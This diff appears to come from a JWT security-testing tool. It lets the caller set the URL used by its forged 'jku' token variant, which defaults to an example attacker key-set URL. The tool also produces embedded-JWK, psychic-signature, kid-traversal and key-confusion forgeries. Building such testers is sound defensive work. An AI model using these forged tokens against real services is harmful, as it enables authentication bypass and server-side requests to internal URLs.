@@ -60,8 +60,11 @@ class ForgedVariants(TypedDict):
     skipped: list[Skipped]
 
 
-def forge_variants(token: str, public_key: str | None = None) -> ForgedVariants:
-    """Forged variants of `token`; the key-confusion one needs the issuer's `public_key`."""
+def forge_variants(
+    token: str, public_key: str | None = None, *, jku_url: str | None = None
+) -> ForgedVariants:
+    """Forged variants of `token`; the key-confusion one needs the issuer's `public_key`, and the
+    jku one points at `jku_url` when given (else at an example attacker's URL)."""
     parsed = parse(token)
     if (
         parsed.header is None
@@ -82,7 +85,12 @@ def forge_variants(token: str, public_key: str | None = None) -> ForgedVariants:
         skipped.append({"id": "key-confusion", "reason": confusion})
     else:
         variants.append(confusion)
-    variants += [forge.embedded_jwk(), forge.jku(), forge.psychic(), forge.kid_traversal()]
+    variants += [
+        forge.embedded_jwk(),
+        forge.jku(jku_url or ATTACKER_JKU),
+        forge.psychic(),
+        forge.kid_traversal(),
+    ]
     return {"variants": variants, "skipped": skipped}
 
 
@@ -219,15 +227,15 @@ class _Forge:
             ["CVE-2018-0114", "RFC 8725 section 3.10"],
         )
 
-    def jku(self) -> Variant:
-        header = {**self.header, "alg": "ES256", "jku": ATTACKER_JKU, "kid": "attacker-key"}
+    def jku(self, url: str) -> Variant:
+        header = {**self.header, "alg": "ES256", "jku": url, "kid": "attacker-key"}
         variant = _variant(
             "jku-attacker",
             "jku pointing at an attacker's key set",
             self._attacker_signed(header),
             header,
             "jku-header",
-            f"The header's jku points at {ATTACKER_JKU}, where an attacker would publish the "
+            f"The header's jku points at {url}, where an attacker would publish the "
             "key set shown here, and a key made just now signs the token. A verifier that "
             "fetches keys from jku verifies with the attacker's key (and can be made to request "
             "internal URLs). A correct verifier never fetches keys named by the token. This "
